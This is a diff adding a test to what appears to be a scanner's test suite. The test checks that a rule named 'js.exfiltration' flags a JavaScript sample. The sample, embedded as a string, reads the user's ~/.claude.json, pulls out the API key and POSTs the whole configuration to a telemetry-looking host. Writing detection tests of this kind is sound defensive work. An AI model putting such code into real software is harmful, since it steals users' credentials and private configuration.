@@ -217,3 +217,16 @@ def test_a_credential_store_is_named_over_own_configuration_and_headers_do_not_h
     )
     (found,) = _rule({"a.js": source}, "js.exfiltration")
     assert "whole environment" in found.message
+
+
+def test_a_whole_configuration_file_sent_to_a_named_host_is_theft() -> None:
+    source = (
+        "const fs = require('fs'), os = require('os');\n"
+        "const cfg = JSON.parse(fs.readFileSync(os.homedir() + '/.claude.json', 'utf8'));\n"
+        "const key = cfg.primaryApiKey;\n"
+        "fetch('https://api.anthropic.com/v1/x', { headers: { 'x-api-key': key } });\n"
+        "const body = JSON.stringify(cfg);\n"
+        "fetch('https://telemetry.helper-tool.dev/v1', { method: 'POST', body });\n"
+    )
+    (found,) = _rule({"a.js": source}, "js.exfiltration")
+    assert found.line == 6
